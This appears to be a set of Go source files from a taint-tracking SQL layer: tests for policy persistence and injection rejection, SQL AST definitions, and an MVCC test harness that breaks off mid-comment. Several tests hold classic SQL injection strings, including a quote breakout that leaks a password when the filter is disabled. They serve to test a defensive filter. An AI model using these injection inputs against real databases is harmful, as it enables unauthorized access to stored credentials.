	for _, want := range []string{"name", "password", "age", "__policy_name", "__policy_password", "__policy_age"} {
		if !strings.Contains(joined, want) {
			t.Errorf("schema %v missing %s", names, want)
		}
	}
}

func TestPolicyPersistenceRoundTrip(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE users (name TEXT, password TEXT)")
	pw := core.NewStringPolicy("hunter2", &passwordPolicy{Email: "u@foo.com"})
	q := core.Concat(
		core.NewString("INSERT INTO users (name, password) VALUES ('alice', "),
		sanitize.SQLQuote(pw),
		core.NewString(")"),
	)
	if _, err := db.Query(q); err != nil {
		t.Fatal(err)
	}
	res, err := db.QueryRaw("SELECT name, password FROM users")
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 1 {
		t.Fatalf("rows = %d", res.Len())
	}
	name := res.Get(0, "name").Str
	if name.IsTainted() {
		t.Errorf("name gained policies: %s", name.Describe())
	}
	got := res.Get(0, "password").Str
	if got.Raw() != "hunter2" {
		t.Fatalf("password = %q", got.Raw())
	}
	ps := got.Policies().Policies()
	var found *passwordPolicy
	for _, p := range ps {
		if pp, ok := p.(*passwordPolicy); ok {
			found = pp
		}
	}
	if found == nil || found.Email != "u@foo.com" {
		t.Fatalf("password policy not restored: %v", got.Describe())
	}
	// The policy columns are hidden from the result.
	if res.ColumnIndex("__policy_password") != -1 {
		t.Error("policy column leaked into visible result")
	}
}

func TestPolicyPersistenceSelectStar(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE t (a TEXT)")
	p := &passwordPolicy{Email: "e"}
	q := core.Concat(core.NewString("INSERT INTO t (a) VALUES ("), sanitize.SQLQuote(core.NewStringPolicy("v", p)), core.NewString(")"))
	if _, err := db.Query(q); err != nil {
		t.Fatal(err)
	}
	res, err := db.QueryRaw("SELECT * FROM t")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Columns) != 1 || !strings.EqualFold(res.Columns[0], "a") {
		t.Fatalf("columns = %v", res.Columns)
	}
	if !res.Get(0, "a").Str.IsTainted() {
		t.Error("SELECT * should re-attach policies")
	}
}

func TestPolicyPersistenceUpdate(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE t (a TEXT)")
	db.MustExec("INSERT INTO t (a) VALUES ('old')")
	p := &passwordPolicy{Email: "e2"}
	q := core.Concat(core.NewString("UPDATE t SET a = "), sanitize.SQLQuote(core.NewStringPolicy("new", p)))
	if _, err := db.Query(q); err != nil {
		t.Fatal(err)
	}
	res, _ := db.QueryRaw("SELECT a FROM t")
	got := res.Get(0, "a").Str
	if got.Raw() != "new" || !got.IsTainted() {
		t.Errorf("update lost policies: %s", got.Describe())
	}
	// Overwriting with untainted data clears the annotation.
	db.MustExec("UPDATE t SET a = 'clean'")
	res, _ = db.QueryRaw("SELECT a FROM t")
	if res.Get(0, "a").Str.IsTainted() {
		t.Error("untainted update should clear policies")
	}
}

func TestPolicyPersistenceTrackedInt(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE t (n INT)")
	p := &passwordPolicy{Email: "n"}
	digits := core.NewStringPolicy("42", p)
	q := core.Concat(core.NewString("INSERT INTO t (n) VALUES ("), digits, core.NewString(")"))
	if _, err := db.Query(q); err != nil {
		t.Fatal(err)
	}
	res, _ := db.QueryRaw("SELECT n FROM t")
	cell := res.Get(0, "n")
	if !cell.IsInt || cell.Int.Value() != 42 {
		t.Fatalf("cell = %+v", cell)
	}
	if !cell.Int.IsTainted() {
		t.Error("tainted digits should persist onto the integer cell")
	}
	if !cell.Text().IsTainted() {
		t.Error("rendered digits should carry the policy")
	}
}

func TestPartialSpanPersistence(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE t (a TEXT)")
	p := &passwordPolicy{Email: "part"}
	// Only "secret" inside the value is tainted.
	val := core.Concat(core.NewString("pre-"), core.NewStringPolicy("secret", p), core.NewString("-post"))
	q := core.Concat(core.NewString("INSERT INTO t (a) VALUES ("), sanitize.SQLQuote(val), core.NewString(")"))
	if _, err := db.Query(q); err != nil {
		t.Fatal(err)
	}
	res, _ := db.QueryRaw("SELECT a FROM t")
	got := res.Get(0, "a").Str
	if got.Raw() != "pre-secret-post" {
		t.Fatalf("raw = %q", got.Raw())
	}
	if got.Slice(0, 4).Policies().Any(func(q core.Policy) bool { _, ok := q.(*passwordPolicy); return ok }) {
		t.Error("prefix should not carry the password policy")
	}
	mid := got.Slice(4, 10)
	if !mid.Policies().Any(func(q core.Policy) bool { _, ok := q.(*passwordPolicy); return ok }) {
		t.Errorf("middle lost the policy: %s", got.Describe())
	}
}

func TestStrategy1RejectsUnsanitized(t *testing.T) {
	db := openDB(t)
	db.Filter().RequireSanitizedMarkers(true)
	db.MustExec("CREATE TABLE users (name TEXT)")
	evil := sanitize.Taint(core.NewString("x' OR '1'='1"), "form")
	q := core.Concat(core.NewString("SELECT name FROM users WHERE name = '"), evil, core.NewString("'"))
	_, err := db.Query(q)
	if err == nil {
		t.Fatal("unsanitized tainted query must be rejected")
	}
	if _, ok := core.IsAssertionError(err); !ok {
		t.Errorf("want AssertionError, got %v", err)
	}
	// Properly sanitized: accepted.
	q2 := core.Concat(core.NewString("SELECT name FROM users WHERE name = "), sanitize.SQLQuote(evil))
	if _, err := db.Query(q2); err != nil {
		t.Fatalf("sanitized query should pass: %v", err)
	}
}

func TestStrategy2RejectsTaintedStructure(t *testing.T) {
	db := openDB(t)
	db.Filter().RejectTaintedStructure(true)
	db.MustExec("CREATE TABLE users (name TEXT, admin INT)")
	db.MustExec("INSERT INTO users (name, admin) VALUES ('alice', 1), ('bob', 0)")

	// Classic injection: tainted OR 1=1 reshapes the WHERE clause.
	evil := sanitize.Taint(core.NewString("0 OR 1=1"), "form")
	q := core.Concat(core.NewString("SELECT name FROM users WHERE admin = "), evil)
	if _, err := db.Query(q); err == nil {
		t.Fatal("tainted structure must be rejected")
	}

	// Tainted data confined to a literal: fine, even without markers.
	lit := sanitize.Taint(core.NewString("bob"), "form")
	q2 := core.Concat(core.NewString("SELECT name FROM users WHERE name = '"), lit, core.NewString("'"))
	res, err := db.Query(q2)
	if err != nil {
		t.Fatalf("tainted literal should pass strategy 2: %v", err)
	}
	if res.Len() != 1 || res.Get(0, "name").Str.Raw() != "bob" {
		t.Errorf("result = %+v", res)
	}

	// Tainted number literal is a value too.
	n := sanitize.Taint(core.NewString("1"), "form")
	q3 := core.Concat(core.NewString("SELECT name FROM users WHERE admin = "), n)
	if _, err := db.Query(q3); err != nil {
		t.Fatalf("tainted number literal should pass: %v", err)
	}

	// Tainted comment injection is structure.
	c := sanitize.Taint(core.NewString("1 -- comment"), "form")
	q4 := core.Concat(core.NewString("SELECT name FROM users WHERE admin = "), c)
	if _, err := db.Query(q4); err == nil {
		t.Fatal("tainted comment must be rejected")
	}
}

func TestStrategy2QuoteBreakout(t *testing.T) {
	db := openDB(t)
	db.Filter().RejectTaintedStructure(true)
	db.MustExec("CREATE TABLE users (name TEXT, password TEXT)")
	db.MustExec("INSERT INTO users (name, password) VALUES ('admin', 'pw')")
	// Attacker breaks out of the quoted literal; the closing quote and OR
	// become tainted structure.
	evil := sanitize.Taint(core.NewString("x' OR name = 'admin"), "form")
	q := core.Concat(core.NewString("SELECT password FROM users WHERE name = '"), evil, core.NewString("'"))
	if _, err := db.Query(q); err == nil {
		t.Fatal("quote breakout must be rejected")
	}
	// Without the assertion the same query succeeds and leaks.
	db.Filter().RejectTaintedStructure(false)
	res, err := db.Query(q)
	if err != nil {
		t.Fatalf("vulnerable query failed to run: %v", err)
	}
	if res.Len() != 1 || res.Get(0, "password").Str.Raw() != "pw" {
		t.Errorf("attack should leak password without the assertion: %+v", res)
	}
}

func TestInjectionErrorDetails(t *testing.T) {
	e := &InjectionError{Strategy: "tainted-structure", Query: "SELECT x", Start: 7, End: 8}
	if !strings.Contains(e.Error(), "tainted-structure") || !strings.Contains(e.Error(), "x") {
		t.Errorf("error = %q", e.Error())
	}
}

func TestTrackingDisabledBypassesFilter(t *testing.T) {
	rt := core.NewUntrackedRuntime()
	db := Open(rt)
	db.Filter().RejectTaintedStructure(true)
	db.MustExec("CREATE TABLE t (a TEXT)")
	// No policy columns created when tracking is off.
	schema, _ := db.Engine().Schema("t")
	if len(schema) != 1 {
		t.Errorf("untracked CREATE added columns: %v", schema)
	}
	// Injection passes (vulnerable baseline).
	evil := core.NewString("x' OR '1'='1").WithPolicy(&sanitize.UntrustedData{Source: "x"})
	q := core.Concat(core.NewString("SELECT a FROM t WHERE a = '"), evil, core.NewString("'"))
	if _, err := db.Query(q); err != nil {
		t.Fatalf("untracked query: %v", err)
	}
}

func TestMixedTrackingSchemas(t *testing.T) {
	// A table created without tracking lacks policy columns; tracked
	// inserts must still work (no policy columns to fill).
	rt := core.NewRuntime()
	db := Open(rt)
	rt.SetTracking(false)
	db.MustExec("CREATE TABLE legacy (a TEXT)")
	rt.SetTracking(true)
	p := &passwordPolicy{Email: "x"}
	q := core.Concat(core.NewString("INSERT INTO legacy (a) VALUES ("), sanitize.SQLQuote(core.NewStringPolicy("v", p)), core.NewString(")"))
	if _, err := db.Query(q); err != nil {
		t.Fatalf("insert into legacy table: %v", err)
	}
	res, err := db.QueryRaw("SELECT a FROM legacy")
	if err != nil {
		t.Fatal(err)
	}
	if res.Get(0, "a").Str.Raw() != "v" {
		t.Errorf("value = %q", res.Get(0, "a").Str.Raw())
	}
	// Policies are lost (no policy column) — the documented legacy-schema
	// behaviour, matching the paper's schema-migration caveat.
	if res.Get(0, "a").Str.IsTainted() {
		t.Error("legacy table cannot persist policies")
	}
}

func TestResultAccessors(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE t (a TEXT, n INT)")
	db.MustExec("INSERT INTO t (a, n) VALUES ('x', 5)")
	res, _ := db.QueryRaw("SELECT a, n FROM t")
	if res.ColumnIndex("A") != 0 || res.ColumnIndex("nope") != -1 {
		t.Error("ColumnIndex wrong")
	}
	if !res.Get(0, "nope").Null || !res.Get(9, "a").Null {
		t.Error("out-of-range Get should be NULL")
	}
	if res.Get(0, "n").Int.Value() != 5 {
		t.Error("int accessor wrong")
	}
	if res.Get(0, "a").Text().Raw() != "x" {
		t.Error("Text() wrong")
	}
	var nullCell Cell
	nullCell.Null = true
	if nullCell.Text().Raw() != "" {
		t.Error("NULL Text() should be empty")
	}
}

func TestSanitizedPoliciesPersistAcrossDB(t *testing.T) {
	// §5.3: even if an adversary executes SELECT password FROM userdb,
	// the password's policy comes back from the database and still guards
	// the data at the output boundary.
	rt := core.NewRuntime()
	db := Open(rt)
	db.MustExec("CREATE TABLE userdb (user TEXT, password TEXT)")
	pw := core.NewStringPolicy("s3cret", &passwordPolicy{Email: "victim@x"})
	q := core.Concat(core.NewString("INSERT INTO userdb (user, password) VALUES ('victim', "), sanitize.SQLQuote(pw), core.NewString(")"))
	if _, err := db.Query(q); err != nil {
		t.Fatal(err)
	}
	// Adversary-controlled SELECT (injection simulated by running the
	// query directly).
	res, err := db.QueryRaw("SELECT user, password FROM userdb")
	if err != nil {
		t.Fatal(err)
	}
	leaked := res.Get(0, "password").Str
	if !leaked.IsTainted() {
		t.Fatal("password came back without its policy")
	}
	// The policy still guards the HTTP boundary.
	ch := core.NewChannel(rt, core.KindHTTP, core.ExportCheckFilter{})
	_ = ch
	// (The test passwordPolicy allows everything; the real check is the
	// policy's presence, verified above — the HotCRP app tests exercise
	// the deny path end-to-end.)
}
