package sqldb

import (
	"strconv"
	"strings"

	"resin/internal/core"
)

// ColType is a column's declared type.
type ColType int

// Column types of the dialect.
const (
	ColText ColType = iota
	ColInt
)

func (t ColType) String() string {
	if t == ColInt {
		return "INT"
	}
	return "TEXT"
}

// ColumnDef declares one column of a table.
type ColumnDef struct {
	Name string
	Type ColType
}

// Statement is a parsed SQL statement.
type Statement interface {
	stmtNode()
	// SQL renders the statement back to dialect text (used by tests and
	// by the filter's rewriting diagnostics).
	SQL() string
}

// CreateTable is CREATE TABLE t (col TYPE, ...).
type CreateTable struct {
	Table string
	Cols  []ColumnDef
}

// DropTable is DROP TABLE t.
type DropTable struct {
	Table string
}

// CreateIndex is CREATE INDEX ON t (col): it declares an ordered index
// over one column, consulted by the engine's predicate analyzer for
// equality, range, and LIKE-prefix WHERE conjuncts and by ORDER BY
// pushdown (see docs/SQL.md §4).
type CreateIndex struct {
	Table  string
	Column string
}

// DropIndex is DROP INDEX ON t (col).
type DropIndex struct {
	Table  string
	Column string
}

// Insert is INSERT INTO t (cols) VALUES (...), (...).
type Insert struct {
	Table   string
	Columns []string
	Rows    [][]Expr
}

// SelectItem is one projected output of a SELECT: a (possibly
// table-qualified) column reference, or an aggregate over one.
type SelectItem struct {
	// Agg is "" for a plain column, or one of COUNT, SUM, MIN, MAX,
	// PUNION. PUNION is the policy-union aggregate: the distinct non-NULL
	// values of a column within each group, byte-sorted and joined with
	// 0x1f — the engine-level carrier the filter uses to propagate the
	// union of input policy sets through aggregation (docs/SQL.md).
	Agg  string
	Star bool   // COUNT(*) — row count, no input column
	Col  string // column name, possibly "table.col"; empty for COUNT(*)
}

// SQL renders the item back to dialect text.
func (it SelectItem) SQL() string {
	switch {
	case it.Agg != "" && it.Star:
		return it.Agg + "(*)"
	case it.Agg != "":
		return it.Agg + "(" + it.Col + ")"
	default:
		return it.Col
	}
}

// JoinClause is [INNER|LEFT] JOIN t2 ON l = r. The ON condition is
// restricted to equality of one column from each side (hash-joinable by
// construction); arbitrary residual predicates belong in WHERE.
type JoinClause struct {
	Type  string // "INNER" or "LEFT"
	Table string
	L, R  string // ON L = R; each possibly "table.col"
}

// Select is SELECT items FROM t [JOIN t2 ON l = r] [WHERE e]
// [GROUP BY cols] [ORDER BY col [DESC]] [LIMIT n].
type Select struct {
	Table   string
	Star    bool
	Items   []SelectItem
	Join    *JoinClause
	Where   Expr
	GroupBy []string
	OrderBy string
	Desc    bool
	Limit   int // -1 means no limit

	// LimitExpr is a `LIMIT ?` (or `LIMIT :name`) binding slot. The
	// parser sets it instead of Limit when the count is a placeholder;
	// bindStatement resolves it to Limit before execution, and the
	// engine rejects a SELECT whose LimitExpr was never bound.
	LimitExpr Expr

	// ForceScan disables index access paths for this SELECT. The parser
	// never sets it; it is the differential-test hook that lets the
	// scan-vs-index harness run both paths against the same snapshot.
	ForceScan bool

	// ForceLoop disables the hash join in favor of the nested-loop
	// fallback. The parser never sets it; it is the differential-test
	// hook that makes the always-correct loop path the oracle.
	ForceLoop bool
}

// grouped reports whether the SELECT aggregates: any aggregate item or
// a GROUP BY clause. A grouped query without GROUP BY columns is a
// whole-input aggregate (one output row, even over empty input).
func (s *Select) grouped() bool {
	if len(s.GroupBy) > 0 {
		return true
	}
	for _, it := range s.Items {
		if it.Agg != "" {
			return true
		}
	}
	return false
}

// Update is UPDATE t SET col = e, ... [WHERE e].
type Update struct {
	Table string
	Set   []Assignment
	Where Expr
}

// Assignment is one SET clause of an UPDATE.
type Assignment struct {
	Column string
	Value  Expr
}

// Delete is DELETE FROM t [WHERE e].
type Delete struct {
	Table string
	Where Expr
}

func (*CreateTable) stmtNode() {}
func (*DropTable) stmtNode()   {}
func (*CreateIndex) stmtNode() {}
func (*DropIndex) stmtNode()   {}
func (*Insert) stmtNode()      {}
func (*Select) stmtNode()      {}
func (*Update) stmtNode()      {}
func (*Delete) stmtNode()      {}

// Expr is a SQL expression.
type Expr interface {
	exprNode()
	// SQL renders the expression back to dialect text.
	SQL() string
}

// ColumnRef names a column.
type ColumnRef struct{ Name string }

// StringLit is a string literal; Val carries the per-character policies
// of the query source, which is how the RESIN filter learns the policy of
// each cell value it stores.
type StringLit struct{ Val core.String }

// IntLit is an integer literal. Src, when set by the lexer, is the tracked
// source text of the literal so that policies on tainted digits can be
// persisted into policy columns just like string literals.
type IntLit struct {
	Val int64
	Src core.String
}

// NullLit is the NULL literal.
type NullLit struct{}

// Param is a literal slot in a cached plan template (never produced by
// Parse on user queries; the plan cache parameterizes string and number
// literals before parsing and binds actual values back in per execution).
// The engine rejects unbound parameters.
type Param struct{ Idx int }

// Placeholder is a `?` binding placeholder from query text: a slot the
// prepared-statement API fills with a bound argument (tracked or plain)
// at execution time, numbered by its zero-based ordinal in text order.
// The engine rejects placeholders that were never bound.
type Placeholder struct{ Ord int }

// Binary is a binary expression: comparison, AND, OR, LIKE.
type Binary struct {
	Op   string // "=", "!=", "<", "<=", ">", ">=", "AND", "OR", "LIKE"
	L, R Expr
}

// Unary is NOT e.
type Unary struct {
	Op string // "NOT"
	X  Expr
}

func (*ColumnRef) exprNode()   {}
func (*StringLit) exprNode()   {}
func (*IntLit) exprNode()      {}
func (*NullLit) exprNode()     {}
func (*Param) exprNode()       {}
func (*Placeholder) exprNode() {}
func (*Binary) exprNode()      {}
func (*Unary) exprNode()       {}

// SQL renderers. Literal strings re-quote with the dialect's escaping.

func quoteSQL(s string) string {
	var b strings.Builder
	b.WriteByte('\'')
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case '\'':
			b.WriteString("''")
		case '\\':
			b.WriteString(`\\`)
		default:
			b.WriteByte(s[i])
		}
	}
	b.WriteByte('\'')
	return b.String()
}

func (e *ColumnRef) SQL() string   { return e.Name }
func (e *StringLit) SQL() string   { return quoteSQL(e.Val.Raw()) }
func (e *IntLit) SQL() string      { return strconv.FormatInt(e.Val, 10) }
func (e *NullLit) SQL() string     { return "NULL" }
func (e *Param) SQL() string       { return "?" + strconv.Itoa(e.Idx) }
func (e *Placeholder) SQL() string { return "?" }
func (e *Binary) SQL() string      { return "(" + e.L.SQL() + " " + e.Op + " " + e.R.SQL() + ")" }
func (e *Unary) SQL() string       { return "(" + e.Op + " " + e.X.SQL() + ")" }

func (s *CreateTable) SQL() string {
	var b strings.Builder
	b.WriteString("CREATE TABLE ")
	b.WriteString(s.Table)
	b.WriteString(" (")
	for i, c := range s.Cols {
		if i > 0 {
			b.WriteString(", ")
		}
		b.WriteString(c.Name + " " + c.Type.String())
	}
	b.WriteString(")")
	return b.String()
}

func (s *DropTable) SQL() string { return "DROP TABLE " + s.Table }

func (s *CreateIndex) SQL() string { return "CREATE INDEX ON " + s.Table + " (" + s.Column + ")" }
func (s *DropIndex) SQL() string   { return "DROP INDEX ON " + s.Table + " (" + s.Column + ")" }

func (s *Insert) SQL() string {
	var b strings.Builder
	b.WriteString("INSERT INTO ")
	b.WriteString(s.Table)
	b.WriteString(" (")
	b.WriteString(strings.Join(s.Columns, ", "))
	b.WriteString(") VALUES ")
	for i, row := range s.Rows {
		if i > 0 {
			b.WriteString(", ")
		}
		b.WriteString("(")
		for j, e := range row {
			if j > 0 {
				b.WriteString(", ")
			}
			b.WriteString(e.SQL())
		}
		b.WriteString(")")
	}
	return b.String()
}

func (s *Select) SQL() string {
	var b strings.Builder
	b.WriteString("SELECT ")
	if s.Star {
		b.WriteString("*")
	} else {
		for i, it := range s.Items {
			if i > 0 {
				b.WriteString(", ")
			}
			b.WriteString(it.SQL())
		}
	}
	b.WriteString(" FROM ")
	b.WriteString(s.Table)
	if s.Join != nil {
		b.WriteString(" " + s.Join.Type + " JOIN " + s.Join.Table +
			" ON " + s.Join.L + " = " + s.Join.R)
	}
	if s.Where != nil {
		b.WriteString(" WHERE " + s.Where.SQL())
	}
	if len(s.GroupBy) > 0 {
		b.WriteString(" GROUP BY " + strings.Join(s.GroupBy, ", "))
	}
	if s.OrderBy != "" {
		b.WriteString(" ORDER BY " + s.OrderBy)
		if s.Desc {
			b.WriteString(" DESC")
		}
	}
	if s.Limit >= 0 {
		b.WriteString(" LIMIT " + strconv.Itoa(s.Limit))
	} else if s.LimitExpr != nil {
		b.WriteString(" LIMIT " + s.LimitExpr.SQL())
	}
	return b.String()
}

func (s *Update) SQL() string {
	var b strings.Builder
	b.WriteString("UPDATE ")
	b.WriteString(s.Table)
	b.WriteString(" SET ")
	for i, a := range s.Set {
		if i > 0 {
			b.WriteString(", ")
		}
		b.WriteString(a.Column + " = " + a.Value.SQL())
	}
	if s.Where != nil {
		b.WriteString(" WHERE " + s.Where.SQL())
	}
	return b.String()
}

func (s *Delete) SQL() string {
	out := "DELETE FROM " + s.Table
	if s.Where != nil {
		out += " WHERE " + s.Where.SQL()
	}
	return out
}
