package sqldb

import (
	"errors"
	"fmt"
	"math/rand"
	"path/filepath"
	"reflect"
	"sync"
	"testing"

	"resin/internal/core"
	"resin/internal/sanitize"
)

// The MVCC concurrency-correctness harness. Three layers, mirroring the
// WAL's property/anomaly/race structure:
//
//   - TestMVCCSnapshotIsolationProperty: seeded randomized concurrent
//     workloads; every read a snapshot makes is validated byte-for-byte
//     (serialized policy spans included) against the version frontier
//     it began on.
//   - TestMVCCAnomalySuite: the textbook anomalies, pinned one by one —
//     which the engine prevents, and which (write skew) it documents.
//   - TestMVCCStressRestartEquality: snapshot readers, conflicting
//     transactions, index DDL and mid-flight compaction race under
//     -race, then a restart must reproduce the surviving state.

// snapRow is one row of a snapshot capture: stable ordering key, raw
// cell bytes, and the EncodeSpans-serialized policy annotations — so
// equality is value AND policy equality, per cell.
type snapRow struct {
	cells []string
	spans []string
}

type querier interface {
	QueryRaw(q string, args ...any) (*Result, error)
}

// captureSorted snapshots a full-table read through q. Every cell's
// text and serialized policy spans are recorded.
func captureSorted(t testing.TB, q querier, query string) []snapRow {
	t.Helper()
	res, err := q.QueryRaw(query)
	if err != nil {
		t.Fatalf("capture %q: %v", query, err)
	}
	out := make([]snapRow, 0, res.Len())
	for i := 0; i < res.Len(); i++ {
		var r snapRow
		for _, col := range res.Columns {
			cell := res.Get(i, col)
			txt := cell.Text()
			spans, err := core.EncodeSpans(txt)
			if err != nil {
				t.Fatalf("capture %q: encode spans: %v", query, err)
			}
			r.cells = append(r.cells, txt.Raw())
			r.spans = append(r.spans, string(spans))
		}
		out = append(out, r)
	}
	return out
}

func requireSameSnapshot(t testing.TB, ctx string, got, want []snapRow) {
	t.Helper()
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("%s: snapshot read diverged from the frontier it began on\ngot:  %+v\nwant: %+v", ctx, got, want)
	}
}

// TestMVCCSnapshotIsolationProperty is the seeded property test: for
// 1000+ iterations, a transaction begins on a small tainted table,
// captures what its frontier shows, and then keeps re-reading that
// snapshot while concurrent writers (direct statements and competing
// transactions) churn rows, move index keys, and rewrite policies
// underneath it. Every read the snapshot makes — values and
// EncodeSpans-serialized policy columns alike — must equal the capture,
// and a multi-row UPDATE must never be seen half-applied by concurrent
// frontier readers (statement atomicity: one frontier bump publishes
// all of a statement's row versions).
func TestMVCCSnapshotIsolationProperty(t *testing.T) {
	iters := 1100
	if testing.Short() {
		iters = 120
	}
	const nrows, writers, mutsPerWriter, readsPerIter = 6, 2, 8, 4
	seed := rand.New(rand.NewSource(20090211)) // seeded: reruns are identical
	query := "SELECT id, val FROM s ORDER BY id"

	for iter := 0; iter < iters; iter++ {
		rng := rand.New(rand.NewSource(seed.Int63()))
		rt := core.NewRuntime()
		db := Open(rt)
		db.MustExec("CREATE TABLE s (id INT, val TEXT)")
		db.MustExec("CREATE INDEX ON s (id)")
		for i := 0; i < nrows; i++ {
			if _, err := db.QueryRaw("INSERT INTO s (id, val) VALUES (?, ?)", i,
				core.NewStringPolicy(fmt.Sprintf("g0-%d", i), &sanitize.UntrustedData{Source: "mvcc"})); err != nil {
				t.Fatal(err)
			}
		}

		want := captureSorted(t, db, query)
		tx := db.Begin()
		requireSameSnapshot(t, "first read", captureSorted(t, tx, query), want)

		var wg sync.WaitGroup
		for w := 0; w < writers; w++ {
			wg.Add(1)
			go func(w int, wseed int64) {
				defer wg.Done()
				wrng := rand.New(rand.NewSource(wseed))
				for i := 0; i < mutsPerWriter; i++ {
					id := wrng.Intn(nrows + 2)
					val := core.NewStringPolicy(fmt.Sprintf("g%d-%d-%d", iter, w, i),
						&sanitize.UntrustedData{Source: "mvcc-churn"})
					var err error
					switch wrng.Intn(4) {
					case 0:
						_, err = db.QueryRaw("INSERT INTO s (id, val) VALUES (?, ?)", id, val)
					case 1:
						_, err = db.QueryRaw("UPDATE s SET val = ?, id = ? WHERE id = ?", val, id+nrows, id)
					case 2:
						_, err = db.QueryRaw("DELETE FROM s WHERE id = ?", id)
					case 3:
						// A competing transaction: commit may succeed or lose
						// the per-row race; anything else is a bug.
						tx2 := db.Begin()
						if _, err2 := tx2.QueryRaw("UPDATE s SET val = ? WHERE id = ?", val, id); err2 != nil {
							err = err2
							break
						}
						if cerr := tx2.Commit(); cerr != nil && !errors.Is(cerr, ErrTxConflict) {
							err = cerr
						}
					}
					if err != nil {
						t.Errorf("iter %d writer %d: %v", iter, w, err)
						return
					}
				}
			}(w, rng.Int63())
		}

		// Frontier readers watch statement atomicity: rows 0 and 1 are
		// stamped with one generation tag by a single multi-row UPDATE
		// below; no read may catch them half-stamped.
		stop := make(chan struct{})
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				select {
				case <-stop:
					return
				default:
				}
				res, err := db.QueryRaw("SELECT val FROM s WHERE id = 100 ORDER BY val")
				if err != nil {
					t.Errorf("iter %d frontier reader: %v", iter, err)
					return
				}
				var tags []string
				for i := 0; i < res.Len(); i++ {
					tags = append(tags, res.Get(i, "val").Str.Raw())
				}
				for i := 1; i < len(tags); i++ {
					if tags[i] != tags[0] {
						t.Errorf("iter %d: multi-row UPDATE observed half-applied: %v", iter, tags)
						return
					}
				}
			}
		}()
		wg.Add(1)
		go func() {
			defer wg.Done()
			db.MustExec("INSERT INTO s (id, val) VALUES (100, 'pair'), (100, 'pair')")
			for g := 0; g < mutsPerWriter; g++ {
				if _, err := db.QueryRaw("UPDATE s SET val = ? WHERE id = 100", fmt.Sprintf("pair-g%d", g)); err != nil {
					t.Errorf("iter %d pair writer: %v", iter, err)
					return
				}
			}
			close(stop)
		}()

		for r := 0; r < readsPerIter; r++ {
			requireSameSnapshot(t, fmt.Sprintf("iter %d read %d", iter, r), captureSorted(t, tx, query), want)
		}
		wg.Wait()
		requireSameSnapshot(t, fmt.Sprintf("iter %d final read", iter), captureSorted(t, tx, query), want)
		if err := tx.Rollback(); err != nil {
			t.Fatal(err)
		}
	}
}

// TestMVCCAnomalySuite pins the isolation level one anomaly at a time.
// Snapshot isolation prevents dirty reads, non-repeatable reads,
// phantoms within a transaction, and lost updates (first-committer-wins
// on row write sets). Write skew is ALLOWED — reads are not validated —
// and the last subtest pins that fact so a future strengthening to
// serializable shows up as a deliberate test change, not a silent one
// (docs/SQL.md §9 documents the same example).
func TestMVCCAnomalySuite(t *testing.T) {
	open := func(t *testing.T) *DB {
		db := Open(core.NewRuntime())
		db.MustExec("CREATE TABLE a (k TEXT, n INT)")
		db.MustExec("INSERT INTO a (k, n) VALUES ('x', 10), ('y', 20)")
		return db
	}
	readN := func(t *testing.T, q querier, k string) int {
		t.Helper()
		res, err := q.QueryRaw("SELECT n FROM a WHERE k = ?", k)
		if err != nil {
			t.Fatal(err)
		}
		if res.Len() != 1 {
			t.Fatalf("row %q: %d rows", k, res.Len())
		}
		return int(res.Get(0, "n").Int.Value())
	}

	t.Run("NoDirtyRead", func(t *testing.T) {
		db := open(t)
		tx := db.Begin()
		tx.MustExec("UPDATE a SET n = 99 WHERE k = 'x'")
		if got := readN(t, db, "x"); got != 10 {
			t.Fatalf("uncommitted write visible outside the tx: n = %d", got)
		}
		other := db.Begin()
		defer other.Rollback()
		if got := readN(t, other, "x"); got != 10 {
			t.Fatalf("uncommitted write visible to a sibling tx: n = %d", got)
		}
		if err := tx.Rollback(); err != nil {
			t.Fatal(err)
		}
		if got := readN(t, db, "x"); got != 10 {
			t.Fatalf("rolled-back write leaked: n = %d", got)
		}
	})

	t.Run("NoNonRepeatableRead", func(t *testing.T) {
		db := open(t)
		tx := db.Begin()
		first := readN(t, tx, "x")
		db.MustExec("UPDATE a SET n = 77 WHERE k = 'x'")
		if again := readN(t, tx, "x"); again != first {
			t.Fatalf("non-repeatable read: %d then %d", first, again)
		}
		if err := tx.Rollback(); err != nil {
			t.Fatal(err)
		}
		if got := readN(t, db, "x"); got != 77 {
			t.Fatalf("committed update lost: n = %d", got)
		}
	})

	t.Run("NoPhantoms", func(t *testing.T) {
		db := open(t)
		tx := db.Begin()
		before, err := tx.QueryRaw("SELECT k FROM a WHERE n >= 0 ORDER BY k")
		if err != nil {
			t.Fatal(err)
		}
		db.MustExec("INSERT INTO a (k, n) VALUES ('z', 30)")
		db.MustExec("DELETE FROM a WHERE k = 'y'")
		after, err := tx.QueryRaw("SELECT k FROM a WHERE n >= 0 ORDER BY k")
		if err != nil {
			t.Fatal(err)
		}
		if before.Len() != after.Len() {
			t.Fatalf("phantom: %d rows then %d", before.Len(), after.Len())
		}
	})

	t.Run("LostUpdateRejected", func(t *testing.T) {
		db := open(t)
		// Classic read-modify-write race: both transactions read n=10 and
		// write back an increment. Without first-committer-wins the
		// second commit would silently erase the first increment.
		tx1, tx2 := db.Begin(), db.Begin()
		n1, n2 := readN(t, tx1, "x"), readN(t, tx2, "x")
		tx1.MustExec(fmt.Sprintf("UPDATE a SET n = %d WHERE k = 'x'", n1+1))
		tx2.MustExec(fmt.Sprintf("UPDATE a SET n = %d WHERE k = 'x'", n2+1))
		if err := tx1.Commit(); err != nil {
			t.Fatal(err)
		}
		if err := tx2.Commit(); !errors.Is(err, ErrTxConflict) {
			t.Fatalf("second writer committed: %v (lost update)", err)
		}
		if got := readN(t, db, "x"); got != 11 {
			t.Fatalf("n = %d, want 11 (exactly one increment)", got)
		}
	})

	t.Run("WriteSkewAllowed", func(t *testing.T) {
		// Both transactions read the invariant n(x)+n(y) >= 25, then each
		// decrements a DIFFERENT row. Disjoint write sets → both commit →
		// invariant broken. This is the documented gap between snapshot
		// isolation and serializability; the assertion pins the current
		// behavior on purpose. (The paper's integrity assertions are the
